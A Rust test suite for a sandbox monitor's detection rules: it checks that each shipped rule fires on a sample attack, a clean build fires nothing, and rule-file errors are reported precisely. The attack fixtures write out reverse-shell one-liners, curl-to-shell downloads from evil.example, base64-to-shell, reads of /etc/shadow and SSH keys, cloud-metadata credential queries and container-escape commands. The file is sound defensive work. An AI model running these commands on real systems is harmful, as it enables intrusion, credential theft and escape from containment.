//! The detection rules from the outside: every shipped rule fires on a
//! realistic attack and none fires on a normal build; every load error
//! names `file:line:col` and the culprit; loading and evaluation never
//! panic.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeSet;
use std::sync::OnceLock;

use monitor::{Action, Kind, Observation, RuleError, Rules, Severity, Value};
use proptest::prelude::*;

// ---------------------------------------------------------------------------
// Observations as the sandbox and the proxy report them.

/// An exec of `path` with `argv`, from a shell, on a job with a baseline in
/// which the program is not new.
fn exec(path: &str, argv: &str) -> Observation {
    let binary = path.rsplit('/').next().unwrap_or(path).to_owned();
    Observation::new(Kind::Exec)
        .with("pid", 42u64)
        .with("ppid", 41u64)
        .with("uid", 1000u64)
        .with("path", path)
        .with("binary", binary)
        .with("argv", argv)
        .with("parent", "sh")
        .with("new_binary", false)
}

/// A network call of `kind` (http, connect, dns, direct).
fn egress(kind: &str, host: &str, port: u64, allowed: bool) -> Observation {
    Observation::new(Kind::Egress)
        .with("kind", kind)
        .with("host", host)
        .with("port", port)
        .with("addr", "")
        .with("endpoint", format!("{host}:{port}"))
        .with("allowed", allowed)
        .with(
            "detail",
            if allowed {
                "allowed by *.example:443"
            } else {
                "not in the allowlist"
            },
        )
        .with("new_endpoint", false)
}

fn sample(cpu_pct: u64, busy_secs: u64, quiet_secs: u64) -> Observation {
    Observation::new(Kind::Sample)
        .with("cpu_pct", cpu_pct)
        .with("memory_bytes", 300u64 << 20)
        .with("memory_pct", 30u64)
        .with("pids", 12u64)
        .with("pids_pct", 5u64)
        .with("io_read_bytes", 1u64 << 20)
        .with("io_write_bytes", 4u64 << 20)
        .with("busy_secs", busy_secs)
        .with("quiet_secs", quiet_secs)
}

fn limit(which: &str) -> Observation {
    Observation::new(Kind::Limit)
        .with("limit", which)
        .with("count", 1u64)
}

fn file(path: &str, change: &str, executable: bool) -> Observation {
    Observation::new(Kind::File)
        .with("path", path)
        .with("change", change)
        .with("size", 4096u64)
        .with("executable", executable)
}

fn fired(rules: &Rules, obs: &Observation) -> Vec<String> {
    rules.evaluate(obs).map(|r| r.id().to_owned()).collect()
}

// ---------------------------------------------------------------------------
// (a) The shipped rules.

/// For each shipped rule, attacks it must catch.
fn attacks() -> Vec<(&'static str, Observation)> {
    vec![
        (
            "crypto-miner-binary",
            exec("/workspace/xmrig", "./xmrig --threads 2"),
        ),
        (
            "crypto-miner-binary",
            exec("/tmp/.x/cpuminer-sse2", "cpuminer-sse2 -a yescrypt"),
        ),
        (
            "crypto-miner-binary",
            exec("/usr/local/bin/t-rex", "t-rex -a kawpow"),
        ),
        (
            "crypto-miner-stratum-url",
            exec(
                "/usr/local/bin/kworker",
                "kworker -o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ -p x",
            ),
        ),
        (
            "crypto-miner-stratum-url",
            exec(
                "/bin/sh",
                "/bin/sh -e -c ./build-helper --url STRATUM+SSL://eu.pool.example:443",
            ),
        ),
        (
            "crypto-miner-arguments",
            exec(
                "/workspace/.cache/node-gyp",
                "node-gyp --donate-level 1 --algo=rx/0 -o pool.example.net:80",
            ),
        ),
        (
            "crypto-miner-pool-port",
            egress("connect", "pool.example.net", 3333, false),
        ),
        (
            "crypto-miner-pool-port",
            egress("direct", "203.0.113.9", 14444, false),
        ),
        (
            "crypto-miner-pool-domain",
            egress("dns", "gulf.moneroocean.stream", 53, false),
        ),
        (
            "crypto-miner-pool-domain",
            egress("connect", "xmr-eu1.nanopool.org", 14433, false),
        ),
        (
            "network-tool-binary",
            exec("/usr/bin/nmap", "nmap -sS 10.0.0.0/24"),
        ),
        (
            "network-tool-binary",
            exec("/bin/nc", "nc -z db.internal 5432"),
        ),
        (
            "netcat-remote-code-execution",
            exec("/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"),
        ),
        (
            "netcat-remote-code-execution",
            exec("/usr/bin/ncat", "ncat 203.0.113.7 4444 --sh-exec /bin/bash"),
        ),
        (
            "netcat-remote-code-execution",
            exec(
                "/usr/bin/socat",
                "socat TCP:203.0.113.7:4444 EXEC:/bin/sh,pty,stderr",
            ),
        ),
        (
            "netcat-listener",
            exec("/usr/bin/ncat", "ncat -lvnp 4444"),
        ),
        (
            "netcat-listener",
            exec(
                "/usr/bin/socat",
                "socat TCP-LISTEN:4444,reuseaddr,fork -",
            ),
        ),
        (
            "reverse-shell-dev-tcp",
            exec("/bin/bash", "bash -c exec 5<>/dev/tcp/203.0.113.7/80"),
        ),
        (
            "reverse-shell-dev-tcp",
            exec("/bin/sh", "sh -c cat /etc/hostname > /dev/udp/203.0.113.7/53"),
        ),
        (
            "reverse-shell-interactive",
            exec(
                "/bin/bash",
                "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            ),
        ),
        (
            "reverse-shell-interactive",
            exec("/bin/sh", "/bin/sh -i <&3 >&3 2>&3"),
        ),
        (
            "reverse-shell-interactive",
            exec("/bin/sh", "sh -c sh -i 2>&1 | nc 203.0.113.7 4444"),
        ),
        (
            "reverse-shell-scripting-one-liner",
            exec(
                "/usr/bin/python3",
                "python3 -c import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/sh\")",
            ),
        ),
        (
            "reverse-shell-scripting-one-liner",
            exec(
                "/usr/bin/perl",
                "perl -e use Socket;$i=\"203.0.113.7\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");exec(\"/bin/sh -i\");};",
            ),
        ),
        (
            "reverse-shell-scripting-one-liner",
            exec(
                "/usr/bin/ruby",
                "ruby -rsocket -e f=TCPSocket.open(\"203.0.113.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)",
            ),
        ),
        (
            "reverse-shell-scripting-one-liner",
            exec(
                "/usr/bin/php",
                "php -r $sock=fsockopen(\"203.0.113.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
            ),
        ),
        (
            "reverse-shell-named-pipe",
            exec(
                "/bin/sh",
                "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
            ),
        ),
        (
            "exec-from-temp-dir",
            exec("/dev/shm/.x/payload", "payload --quiet"),
        ),
        ("exec-from-temp-dir", exec("/tmp/kdevtmpfsi", "kdevtmpfsi")),
        ("exec-from-temp-dir", exec("/var/tmp/.ICE/x", "x")),
        (
            "exec-from-temp-dir",
            exec("/tmp/.cargo/bin/cargo", "cargo build").with("new_binary", true),
        ),
        (
            "container-escape-tool",
            exec("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n sh"),
        ),
        (
            "container-escape-tool",
            exec("/sbin/insmod", "insmod rootkit.ko"),
        ),
        (
            "container-escape-tool",
            exec("/usr/bin/unshare", "unshare -Urm sh"),
        ),
        ("privilege-change-tool", exec("/usr/bin/sudo", "sudo -n id")),
        ("privilege-change-tool", exec("/bin/su", "su root")),
        ("debugger-or-tracer", exec("/usr/bin/strace", "strace -f -p 1")),
        (
            "debugger-or-tracer",
            exec("/usr/bin/gdb", "gdb -p 7 -batch -ex dump memory"),
        ),
        (
            "download-piped-to-shell",
            exec(
                "/bin/sh",
                "/bin/sh -e -c curl -fsSL https://evil.example/x.sh | sh",
            ),
        ),
        (
            "download-piped-to-shell",
            exec(
                "/bin/sh",
                "sh -c wget -O- https://evil.example/x.sh | bash",
            ),
        ),
        (
            "download-piped-to-shell",
            exec(
                "/bin/sh",
                "sh -c curl -s https://evil.example/i?a=1&b=2 | sudo -E /bin/bash -s --",
            ),
        ),
        (
            "base64-decoded-to-shell",
            exec(
                "/bin/sh",
                "sh -c echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo= | base64 -d | bash",
            ),
        ),
        (
            "base64-decoded-to-shell",
            exec(
                "/usr/bin/python3",
                "python3 -c exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
            ),
        ),
        (
            "sensitive-file-access",
            exec("/bin/cat", "cat /proc/1/environ"),
        ),
        ("sensitive-file-access", exec("/bin/cat", "cat /etc/shadow")),
        (
            "sensitive-file-access",
            exec("/bin/cp", "cp /root/.ssh/id_ed25519 /workspace/out"),
        ),
        (
            "sensitive-file-access",
            exec(
                "/usr/bin/python3",
                "python3 memdump.py /proc/1234/mem",
            ),
        ),
        ("sensitive-file-access", exec("/bin/cat", "cat /etc/sudoers")),
        (
            "sensitive-file-access",
            exec("/bin/ls", "ls /proc/1/root/etc"),
        ),
        (
            "container-escape-path",
            exec(
                "/usr/bin/curl",
                "curl --unix-socket /var/run/docker.sock http://localhost/containers/json",
            ),
        ),
        (
            "container-escape-path",
            exec(
                "/bin/sh",
                "sh -c echo /x > /sys/fs/cgroup/rdma/release_agent",
            ),
        ),
        (
            "container-escape-path",
            exec("/bin/ls", "ls /sys/kernel/security"),
        ),
        (
            "cloud-metadata-access",
            exec(
                "/usr/bin/curl",
                "curl http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            ),
        ),
        (
            "cloud-metadata-access",
            exec(
                "/usr/bin/curl",
                "curl -H Metadata-Flavor:Google http://metadata.google.internal/computeMetadata/v1/",
            ),
        ),
        (
            "cloud-metadata-egress",
            egress("http", "169.254.169.254", 80, false),
        ),
        (
            "cloud-metadata-egress",
            egress("dns", "metadata.google.internal", 53, false),
        ),
        (
            "cloud-metadata-egress",
            egress("direct", "instance-data", 80, false).with("addr", "169.254.169.254"),
        ),
        (
            "ci-config-tampering",
            file("/workspace/.github/workflows/release.yml", "modified", false),
        ),
        (
            "ci-config-tampering",
            file("/workspace/.git/hooks/pre-commit", "created", true),
        ),
        (
            "egress-denied",
            egress("http", "exfil.example.com", 443, false),
        ),
        (
            "egress-denied",
            egress("dns", "exfil.example.com", 53, false),
        ),
        (
            "egress-direct-bypass",
            egress("direct", "203.0.113.7", 443, false),
        ),
        (
            "dns-tunnelling-long-label",
            egress(
                "dns",
                "aGVsbG8gd29ybGQgdGhpcyBpcyBhIHNlY3JldCB0b2tlbg.t.example.com",
                53,
                true,
            ),
        ),
        ("cpu-busy-no-output", sample(100, 45, 60)),
        ("pids-limit-hit", limit("pids")),
        ("out-of-memory", limit("memory")),
        (
            "new-endpoint",
            egress("http", "telemetry.example.io", 443, true).with("new_endpoint", true),
        ),
        (
            "new-binary",
            exec("/workspace/node_modules/.bin/postinstall", "postinstall")
                .with("new_binary", true),
        ),
    ]
}

/// What a normal build does.
fn clean_build() -> Vec<Observation> {
    vec![
        exec("/bin/sh", "/bin/sh -e -c make -j2"),
        exec("/bin/sh", "sh -c make"),
        exec("/usr/bin/make", "make -j2"),
        exec(
            "/usr/bin/gcc",
            "gcc -O2 -Wall -Isrc -c src/main.c -o build/main.o",
        ),
        exec(
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1 -quiet -Isrc src/main.c -o /tmp/ccA1b2C3.s",
        ),
        exec("/usr/bin/ld", "ld -o build/app build/main.o -lc"),
        exec("/usr/local/cargo/bin/cargo", "cargo build --release --locked"),
        exec(
            "/usr/local/rustup/toolchains/stable/bin/rustc",
            "rustc --crate-name serde --edition=2021 src/lib.rs --crate-type lib -C opt-level=3",
        ),
        exec("/tmp/.cargo/bin/cargo", "cargo test --workspace"),
        exec(
            "/tmp/go-build123456/b001/app.test",
            "/tmp/go-build123456/b001/app.test -test.v",
        ),
        exec(
            "/tmp/pip-build-env-k2j4h1/overlay/bin/cmake",
            "cmake --version",
        ),
        exec(
            "/tmp/.gradle/wrapper/dists/gradle-8.5-bin/5t9h/gradle-8.5/bin/gradle",
            "gradle build",
        ),
        exec("/bin/grep", "grep -q docker /proc/1/cgroup"),
        exec("/usr/bin/python3", "python3 setup.py build"),
        exec("/usr/bin/python3", "python3 script.py"),
        exec(
            "/usr/bin/python3",
            "python3 -m pytest tests/test_socket.py tests/test_subprocess.py -x",
        ),
        exec(
            "/usr/bin/python3",
            "python3 -c import socket; s=socket.socket(); s.bind(('', 0)); print(s.getsockname()[1])",
        ),
        exec("/usr/bin/pip", "pip install -r requirements.txt"),
        exec("/usr/bin/git", "git clone https://github.com/example/project.git"),
        exec(
            "/usr/bin/curl",
            "curl -fsSL https://example.org/file -o out",
        ),
        exec(
            "/bin/sh",
            "/bin/sh -e -c curl -fsSL https://example.org/src.tar.gz | tar xz",
        ),
        exec(
            "/bin/sh",
            "sh -c curl -fsSL https://example.org/src.tar.gz | sha256sum",
        ),
        exec(
            "/bin/sh",
            "sh -c curl -fsS https://example.org/health || sh scripts/fallback.sh",
        ),
        exec("/bin/tar", "tar xzf out.tar.gz"),
        exec("/bin/bash", "bash ./configure --prefix=/usr"),
        exec("/bin/sh", "sh -c make check 2>&1 | tee test.log"),
        exec("/bin/bash", "bash -c ./run-tests.sh > log 2>&1"),
        exec("/bin/cat", "cat Makefile"),
        exec("/usr/bin/node", "node scripts/build.js"),
        exec("/usr/bin/npm", "npm ci --ignore-scripts"),
        exec("/usr/bin/base64", "base64 -d encoded.txt"),
        exec("/usr/bin/cmake", "cmake -S . -B build -G Ninja"),
        exec("/usr/bin/ninja", "ninja -C build"),
        exec("/usr/bin/sha256sum", "sha256sum -c SHA256SUMS"),
        egress("http", "static.crates.io", 443, true),
        egress("dns", "index.crates.io", 53, true),
        egress("connect", "github.com", 443, true),
        egress("http", "registry.npmjs.org", 443, true),
        sample(100, 20, 3),
        sample(100, 120, 2),
        sample(15, 0, 45),
        file("/workspace/target/release/app", "created", true),
        file("/workspace/src/main.rs", "modified", false),
        file("/workspace/.git/hooks/pre-commit.sample", "created", true),
        file("/workspace/.github/workflows/ci.yml", "created", false),
    ]
}

#[test]
fn every_shipped_rule_fires_on_its_attack() {
    let rules = Rules::builtin();
    let mut covered = BTreeSet::new();
    for (id, obs) in attacks() {
        assert!(rules.get(id).is_some(), "no shipped rule {id}");
        let got = fired(&rules, &obs);
        assert!(
            got.iter().any(|g| g == id),
            "{id} did not fire on {} (fired: {got:?})",
            obs.summary()
        );
        covered.insert(id);
    }
    let all: BTreeSet<&str> = rules.rules().iter().map(|r| r.id()).collect();
    let untested: Vec<_> = all.difference(&covered).collect();
    assert!(
        untested.is_empty(),
        "shipped rules without an attack: {untested:?}"
    );
}

#[test]
fn a_normal_build_fires_nothing() {
    let rules = Rules::builtin();
    let clean = clean_build();
    assert!(clean.len() >= 30);
    for obs in clean {
        let got = fired(&rules, &obs);
        assert!(got.is_empty(), "{} fired {got:?}", obs.summary());
    }
}

#[test]
fn shipped_rules_are_well_formed() {
    let rules = Rules::builtin();
    assert!(rules.rules().len() >= 16);
    let mut ids = BTreeSet::new();
    let mut files = BTreeSet::new();
    for rule in rules.rules() {
        assert!(ids.insert(rule.id()), "duplicate id {}", rule.id());
        assert!(!rule.description().is_empty(), "{}", rule.id());
        let reason = rule.reason().unwrap_or_default();
        assert!(reason.len() > 40, "{} needs a reason", rule.id());
        assert!(
            reason.contains("Falco")
                || reason.contains("Harden-Runner")
                || reason.contains("Mirrors"),
            "{}: the reason should say what the rule mirrors",
            rule.id()
        );
        assert!(
            rule.source().starts_with("resources/rules/"),
            "{}",
            rule.source()
        );
        files.insert(rule.source().split(':').next().unwrap().to_owned());
    }
    assert!(files.len() >= 4, "rules grouped by theme: {files:?}");
    // Only the two rules that see a miner for certain kill by default.
    let kill: Vec<&str> = rules
        .rules()
        .iter()
        .filter(|r| r.action() == Action::Kill)
        .map(|r| r.id())
        .collect();
    assert_eq!(kill, ["crypto-miner-binary", "crypto-miner-stratum-url"]);
    for id in &kill {
        assert_eq!(rules.get(id).unwrap().severity(), Severity::Critical);
    }
}

// ---------------------------------------------------------------------------
// (b) Every load error names file:line:col and the culprit.

const GOOD_HEAD: &str = "- id: r\n  severity: low\n  description: d\n  on: exec\n";

fn load_err(text: &str) -> RuleError {
    match Rules::load(&[("ops/t.yaml", text)]) {
        Ok(_) => panic!("loaded: {text}"),
        Err(e) => e,
    }
}

/// Asserts that loading `text` fails with exactly `want` (after the file
/// name).
#[track_caller]
fn refuses(text: &str, want: &str) {
    let got = load_err(text).to_string();
    assert_eq!(got, format!("ops/t.yaml:{want}"), "for:\n{text}");
}

/// A rule of kind `on` with condition `when` (YAML flow text).
fn with_when(on: &str, when: &str) -> String {
    format!("- id: r\n  severity: low\n  description: d\n  on: {on}\n  when: {when}\n")
}

#[test]
fn unknown_keys() {
    refuses(
        &format!("{GOOD_HEAD}  when: {{binary: x}}\n  actoin: kill\n"),
        "6:3: unknown key \"actoin\" in rule \"r\" (expected one of: id, severity, description, on, when, action, reason)",
    );
    refuses(
        &with_when("exec", "{binary: {regex: 'x'}}"),
        "5:19: unknown key \"regex\" in the comparison for field \"binary\" (expected one of: equals, in, matches, contains, starts_with, ends_with)",
    );
    refuses(
        &with_when("egress", "{port: {above: 3}}"),
        "5:17: unknown key \"above\" in the comparison for field \"port\" (expected one of: equals, in, gt, gte, lt, lte)",
    );
}

#[test]
fn unknown_fields_list_the_valid_ones() {
    refuses(
        &with_when("exec", "{binay: nc}"),
        "5:10: unknown field \"binay\" for `on: exec` (valid fields: pid, ppid, uid, path, binary, argv, parent, new_binary)",
    );
    refuses(
        &format!("{GOOD_HEAD}  when:\n    any:\n      - binary: nc\n      - not: {{port: 4444}}\n"),
        "8:15: unknown field \"port\" for `on: exec` (valid fields: pid, ppid, uid, path, binary, argv, parent, new_binary)",
    );
    refuses(
        &with_when("limit", "{kind: pids}"),
        "5:10: unknown field \"kind\" for `on: limit` (valid fields: limit, count)",
    );
}

#[test]
fn wrong_types() {
    refuses(
        &with_when("egress", "{port: '3333'}"),
        "5:16: expected a number for field \"port\", found the string \"3333\"",
    );
    refuses(
        &with_when("egress", "{allowed: 'no'}"),
        "5:19: expected true or false for field \"allowed\", found the string \"no\"",
    );
    refuses(
        &with_when("exec", "{binary: true}"),
        "5:18: expected text for field \"binary\", found the boolean true",
    );
    refuses(
        &with_when("exec", "{binary: [nc, ncat]}"),
        "5:18: expected a value or a mapping with one of equals, in, matches, contains, starts_with, ends_with (for a list, use in:) for field \"binary\", found a list",
    );
    refuses(
        &with_when("egress", "{port: {in: [80, http]}}"),
        "5:26: expected a number for field \"port\", found the string \"http\"",
    );
    refuses(
        &with_when("exec", "{binary: {in: nc}}"),
        "5:23: expected a list of text for \"in\" of field \"binary\", found the string \"nc\"",
    );
    refuses(
        &with_when("sample", "{busy_secs: {gte: thirty}}"),
        "5:27: expected a number for \"gte\" of field \"busy_secs\", found the string \"thirty\"",
    );
    refuses(
        &with_when("exec", "[binary, nc]"),
        "5:9: expected a mapping of field names and all, any, not for a condition, found a list",
    );
    refuses(
        &with_when("exec", "{any: {binary: nc}}"),
        "5:15: expected a list of conditions for \"any\", found a mapping",
    );
    refuses(
        &with_when("exec", "{not: [{binary: nc}]}"),
        "5:15: expected a mapping of field names and all, any, not for a condition, found a list",
    );
    refuses("- id: [r]\n", "1:7: expected text for \"id\", found a list");
    refuses(
        "id: r\nseverity: low\n",
        "1:1: expected a list of rules for the rule file, found a mapping",
    );
    refuses(
        "- just a string\n",
        "1:3: expected a mapping (a rule) for an item of the rule list, found the string \"just a string\"",
    );
}

#[test]
fn operators_must_fit_the_field_type() {
    refuses(
        &with_when("egress", "{port: {matches: '^44'}}"),
        "5:17: \"matches\" does not apply to \"port\" (a number field; expected one of: equals, in, gt, gte, lt, lte)",
    );
    refuses(
        &with_when("exec", "{argv: {gt: 3}}"),
        "5:17: \"gt\" does not apply to \"argv\" (a text field; expected one of: equals, in, matches, contains, starts_with, ends_with)",
    );
    refuses(
        &with_when("exec", "{new_binary: {contains: t}}"),
        "5:23: \"contains\" does not apply to \"new_binary\" (a bool field; expected one of: equals, in)",
    );
}

#[test]
fn duplicate_ids_name_both_places() {
    let rule = |id: &str| {
        format!(
            "- id: {id}\n  severity: low\n  description: d\n  on: exec\n  when: {{binary: x}}\n"
        )
    };
    let twice = format!("{}{}", rule("dup"), rule("dup"));
    refuses(
        &twice,
        "6:7: duplicate rule id \"dup\" (first defined at ops/t.yaml:1:7)",
    );
    let err = Rules::load(&[("a.yaml", &rule("dup")), ("b.yaml", &rule("dup"))]).unwrap_err();
    assert_eq!(
        err.to_string(),
        "b.yaml:1:7: duplicate rule id \"dup\" (first defined at a.yaml:1:7)"
    );
}

#[test]
fn bad_regexes() {
    refuses(
        &with_when("exec", "{argv: {matches: '(unclosed'}}"),
        "5:26: bad regex for \"argv\": unclosed group",
    );
    refuses(
        &with_when("exec", "{argv: {matches: '[z-a]'}}"),
        "5:26: bad regex for \"argv\": invalid character class range, the start must be <= the end",
    );
    let err = load_err(&with_when("exec", r"{argv: {matches: '(\w{100}){100}'}}")).to_string();
    assert!(
        err.starts_with("ops/t.yaml:5:26: bad regex for \"argv\": the compiled regex is larger than the limit of"),
        "{err}"
    );
}

#[test]
fn bad_names() {
    refuses(
        "- id: r\n  severity: urgent\n  description: d\n  on: exec\n  when: {binary: x}\n",
        "2:13: unknown severity \"urgent\" (expected one of: info, low, medium, high, critical)",
    );
    refuses(
        &format!("{GOOD_HEAD}  when: {{binary: x}}\n  action: block\n"),
        "6:11: unknown action \"block\" (expected alert or kill)",
    );
    refuses(
        &with_when("execve", "{binary: x}"),
        "4:7: unknown kind \"execve\" (expected one of: exec, egress, sample, limit, file)",
    );
    refuses(
        "- id: Crypto_Miner\n",
        "1:7: invalid rule id \"Crypto_Miner\" (expected lowercase letters, digits and '-', not starting with '-', at most 64 characters)",
    );
}

#[test]
fn grammar_misuse() {
    refuses(
        "- id: r\n  severity: low\n  description: d\n  on: exec\n",
        "1:3: missing key \"when\" in rule \"r\"",
    );
    refuses("- severity: low\n", "1:3: missing key \"id\" in a rule");
    refuses(
        &with_when("exec", "{}"),
        "5:9: empty condition (expected at least one field name or all, any, not)",
    );
    refuses(
        &with_when("exec", "{all: []}"),
        "5:15: empty list for \"all\" (expected at least one condition)",
    );
    refuses(
        &with_when("exec", "{binary: {in: []}}"),
        "5:23: empty list for \"in\" of field \"binary\" (expected at least one value)",
    );
    refuses(
        &with_when("exec", "{binary: {}}"),
        "5:18: empty comparison for field \"binary\" (expected a value or a mapping with one of equals, in, matches, contains, starts_with, ends_with)",
    );
    refuses(
        &with_when("exec", "{argv: {contains: a, matches: b}}"),
        "5:30: more than one comparison for field \"argv\" (found \"contains\" and \"matches\"; expected exactly one, combine several with all: or any:)",
    );
    refuses(
        &with_when("exec", "{argv: {contains: ''}}"),
        "5:27: empty text for \"contains\" of field \"argv\" (it would match everything)",
    );
    refuses(
        "- id: r\n  severity: low\n  description: '  '\n  on: exec\n  when: {binary: x}\n",
        "3:16: empty \"description\" (expected a sentence)",
    );
}

#[test]
fn yaml_errors() {
    refuses(
        "- id: [unclosed\n",
        "2:1: invalid yaml: while parsing a flow sequence, expected ',' or ']'",
    );
    refuses(
        "- !!map {id: r}\n",
        "1:9: yaml tags are not supported (found \"tag:yaml.org,2002:map\"; expected a plain value)",
    );
    refuses(
        "- id: r\n  id: s\n",
        "2:3: duplicate key \"id\" (first defined at line 1)",
    );
    refuses(
        "- id: r\n---\n- id: s\n",
        "2:1: a second yaml document (expected one list of rules per file; remove the '---')",
    );
    let huge = "#".repeat((1 << 20) + 1);
    let err = load_err(&huge);
    assert!(err.position().is_none());
    assert_eq!(
        err.to_string(),
        "ops/t.yaml: rule file is too large (1048577 bytes; expected at most 1048576 bytes)"
    );
}

#[test]
fn errors_are_lowercase_without_a_trailing_period() {
    let texts = [
        with_when("exec", "{binay: nc}"),
        with_when("exec", "{argv: {matches: '('}}"),
        with_when("egress", "{port: {matches: x}}"),
        "- id: r\n  severity: urgent\n".to_owned(),
    ];
    for text in texts {
        let err = load_err(&text).to_string();
        let message = err.splitn(4, ':').nth(3).unwrap().trim_start();
        assert!(!message.starts_with(char::is_uppercase), "{err}");
        assert!(!message.ends_with('.'), "{err}");
    }
}

// ---------------------------------------------------------------------------
// (c) Nothing panics.

/// A rule file touching the whole grammar, to be mutated.
const VALID: &str = r#"# a file of two rules
- id: miner
  severity: critical
  description: A miner started.
  on: exec
  when:
    any:
      - binary: { in: &miners [xmrig, minerd] }
      - argv: { matches: '(?i)stratum\+tcp://' }
      - all:
          - path: { starts_with: /tmp/ }
          - not: { new_binary: false }
          - pid: { gte: 2 }
  action: kill
  reason: mirrors Falco
- id: pool
  severity: high
  description: "A pool port."
  on: egress
  when:
    port: { in: [3333, 0x1F, 1.5e3] }
    host: { ends_with: .example }
    allowed: true
"#;

fn check_load(text: &str) -> Result<(), TestCaseError> {
    match Rules::load(&[("p.yaml", text)]) {
        Ok(rules) => {
            for rule in rules.rules() {
                prop_assert!(!rule.id().is_empty());
                prop_assert!(rule.source().starts_with("p.yaml:"));
            }
        }
        Err(e) => {
            let shown = e.to_string();
            prop_assert!(shown.starts_with("p.yaml"), "{shown}");
            prop_assert!(!shown.ends_with('.'), "{shown}");
            if let Some(at) = e.position() {
                // YAML breaks lines at \r too.
                let lines = text.split(['\n', '\r']).count();
                prop_assert!(at.line >= 1 && at.col >= 1, "{shown}");
                prop_assert!(at.line <= lines + 1, "line past the end: {shown}");
                let prefix = format!("p.yaml:{}:{}: ", at.line, at.col);
                prop_assert!(shown.starts_with(&prefix), "{shown}");
            }
        }
    }
    Ok(())
}

/// One byte-level edit of the valid file.
#[derive(Debug, Clone)]
enum Edit {
    Replace(usize, u8),
    Insert(usize, u8),
    Delete(usize),
}

fn apply(text: &str, edits: &[Edit]) -> String {
    let mut bytes = text.as_bytes().to_vec();
    for edit in edits {
        let len = bytes.len().max(1);
        match *edit {
            Edit::Replace(i, b) => {
                if let Some(slot) = bytes.get_mut(i % len) {
                    *slot = b;
                }
            }
            Edit::Insert(i, b) => bytes.insert(i % (bytes.len() + 1), b),
            Edit::Delete(i) => {
                if !bytes.is_empty() {
                    bytes.remove(i % len);
                }
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

fn edit() -> impl Strategy<Value = Edit> {
    let byte =
        prop::sample::select(b" \n\t-:{}[],'\"#&*!|>?0123456789abcdefgnotaluy.\\(+".to_vec());
    prop_oneof![
        (any::<usize>(), byte.clone()).prop_map(|(i, b)| Edit::Replace(i, b)),
        (any::<usize>(), byte).prop_map(|(i, b)| Edit::Insert(i, b)),
        any::<usize>().prop_map(Edit::Delete),
    ]
}

/// A value of any type, so that fields also get values of the wrong type.
fn value() -> impl Strategy<Value = Value> {
    prop_oneof![
        prop::sample::select(vec![
            "",
            "xmrig",
            "nc",
            "sh",
            "/tmp/x",
            "nc -lvnp 4444",
            "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
            "stratum+tcp://x",
            "pids",
            "memory",
            "direct",
            "dns",
            "modified",
            "curl x | sh",
            "169.254.169.254",
            "é\u{0}\u{1b}[31m",
        ])
        .prop_map(Value::from),
        ".{0,80}".prop_map(Value::from),
        any::<f64>().prop_map(Value::Number),
        any::<bool>().prop_map(Value::Bool),
    ]
}

/// An observation of any kind with any subset of its fields, typed or not.
fn observation() -> impl Strategy<Value = Observation> {
    (
        prop::sample::select(Kind::ALL.to_vec()),
        prop::collection::vec((any::<prop::sample::Index>(), value()), 0..12),
    )
        .prop_map(|(kind, values)| {
            let mut obs = Observation::new(kind);
            for (index, value) in values {
                let (field, _) = *index.get(kind.fields());
                obs = obs.with(field, value);
            }
            obs
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn loading_arbitrary_text_never_panics(text in ".{0,300}") {
        check_load(&text)?;
    }

    #[test]
    fn loading_yaml_ish_text_never_panics(
        lines in prop::collection::vec(
            "( {0,6})(- )?(id|severity|description|on|when|action|reason|any|all|not|binary|argv|port|in|matches|gte|x)?(: ?)?([a-z0-9 \\[\\]{},'\"*&|>-]{0,20})",
            0..16,
        )
    ) {
        check_load(&lines.join("\n"))?;
    }

    #[test]
    fn loading_mutated_rules_never_panics(edits in prop::collection::vec(edit(), 1..6)) {
        check_load(&apply(VALID, &edits))?;
    }

    #[test]
    fn evaluating_random_observations_never_panics(obs in observation()) {
        static BUILTIN: OnceLock<Rules> = OnceLock::new();
        let rules = BUILTIN.get_or_init(Rules::builtin);
        for rule in rules.evaluate(&obs) {
            prop_assert_eq!(rule.kind(), obs.kind);
            prop_assert!(rule.matches(&obs));
        }
        let fired = rules.evaluate(&obs).count();
        let matching = rules.rules().iter().filter(|r| r.matches(&obs)).count();
        prop_assert_eq!(fired, matching);
    }
}

#[test]
fn the_mutation_base_loads() {
    let rules = Rules::load(&[("p.yaml", VALID)]).unwrap();
    let miner = rules.get("miner").unwrap();
    assert!(miner.matches(&exec("/usr/bin/xmrig", "xmrig")));
    assert!(miner.matches(&exec("/tmp/a", "a").with("new_binary", true)));
    assert!(!miner.matches(&exec("/tmp/a", "a")));
    let pool = rules.get("pool").unwrap();
    assert!(pool.matches(&egress("connect", "pool.example", 31, true)));
    assert!(pool.matches(&egress("connect", "pool.example", 1500, true)));
    assert!(!pool.matches(&egress("connect", "pool.example", 3333, false)));
}
